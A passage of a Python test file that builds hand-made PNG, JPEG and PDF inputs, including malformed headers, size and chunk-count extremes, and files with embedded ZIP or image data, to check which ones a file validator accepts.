        "header behind 1000 bytes": lambda: b" " * 1000 + pdf(),
        "header of version 3": lambda: pdf().replace(b"%PDF-1.7", b"%PDF-3.0"),
        "header without a version": lambda: pdf().replace(b"%PDF-1.7", b"%PDF-1.x"),
        "header in small letters": lambda: pdf().replace(b"%PDF", b"%pdf"),
        "header of FDF": lambda: pdf().replace(b"%PDF-1.7", b"%FDF-1.2"),
        "header of PostScript": lambda: b"%!PS-Adobe-3.0 " + pdf(),
        "an old one with a new header": lambda: b"%PDF-1.7\n" + good_files()["jpeg RGB"][1],
    }


def by_hand() -> Mapping[str, tuple[str, bytes]]:
    """What those above differ from, or nearly are; all of them are accepted."""
    pixels, stream = (
        chunk(b"IDAT", PIXELS),
        b"<</Type /XRef/W[1 2 1]/Size 3/Root 1 0 R/Length 0>>stream\n\nendstream\nendobj\n",
    )
    half = zlib.compress(bytes(7 * MEBIBYTE), 9)
    almost = saved(picture(), "PNG")
    return {
        "png by hand": (PNG, png()),
        "png of as many chunks as there may be": (PNG, png(chunk(b"teXt") * 32_766, pixels)),
        "png of 8,192 chunks of pixels": (PNG, png(pixels, chunk(b"IDAT") * 8191)),
        "png of pixels by the byte": (PNG, png(chunk(b"IDAT"), *(chunk(b"IDAT", bytes((byte,))) for byte in PIXELS))),
        "png with texts as large as they may be": (PNG, png(*[chunk(b"zTXt", b"a\0\0" + half)] * 2, pixels)),
        "png with a text that is not compressed": (PNG,
            png(chunk(b"iTXt", b"a\0\0\0\0\0" + b"x" * 3 * MEBIBYTE), pixels)),
        "png with an empty text": (PNG, png(chunk(b"zTXt", b"a\0\0" + zlib.compress(b"")), pixels)),
        "png with a large private chunk": (PNG, png(chunk(b"prVt", bytes(9 * MEBIBYTE)), pixels)),
        "png with a palette for colour": (PNG, png(chunk(b"PLTE", b"abc" * 256), pixels)),
        "png of one line": (PNG, png(chunk(b"IDAT", zlib.compress(bytes(12_500_001), 9)),
            header=ihdr(100_000_000, 1, 1, 0))),
        "png with the word of a ZIP's end": (PNG, png(pixels, chunk(b"prVt", b"PK\x05\x06" + b"\x07" * 99))),
        "png with a PNG in it": (PNG, png(chunk(b"prVt", almost), pixels)),
        "jpeg by hand": (JPEG, jpeg()),
        "jpeg of as many scans as there may be": (JPEG, jpeg(scans=sos() * 100)),
        "jpeg of as many segments as there may be": (JPEG, jpeg(segment(0xFE) * 4090)),
        "jpeg of 12 bits": (JPEG, jpeg(frame=sof(precision=12, kind=0xC1))),
        "jpeg with a JPEG in it": (JPEG, jpeg(segment(0xE1, b"Exif\0\0" + jpeg()))),
        "jpeg with a large preview": (JPEG, jpeg(segment(0xE1, b"Exif\0\0MM\0*" + b"x" * 0x3D2D))),
        "jpeg with a short comment first": (JPEG, jpeg(segment(0xFE, b"of the year 2026"))),
        "jpeg with FF before its data's end": (JPEG, jpeg(scans=sos(coded=b"\x3f\xff\xff\xff\0\xff\xd0\x3f\xff\0"))),
        "jpeg with a large data": (JPEG, jpeg(scans=sos(coded=b"\x3f\xff\0" * 1_000_000))),
        "pdf by hand": (PDF, pdf()),
        "pdf by hand, with a stream": (PDF, pdf(table=b"3 0 obj\n" + stream)),
        "pdf by hand, filled up with NULs": (PDF, pdf() + bytes(500)),
        "pdf by hand, with many line ends": (PDF, pdf() + b"\r\n" * 99),
        "pdf by hand, with CRLF": (PDF, pdf(end=b"startxref\r\n%d\r\n%%%%EOF\r\n" % len(PDF_BODY))),
        "pdf with a ZIP far before its end": (PDF, PDF_BODY.replace(b"endobj", b"%" + archive("a.txt") + b"\nendobj", 1)
            + bytes(140_000) + PDF_TABLE
            + b"startxref\n%d\n%%%%EOF\n" % (len(PDF_BODY) + len(archive("a.txt")) + 2 + 140_000)),
    }  # fmt: skip
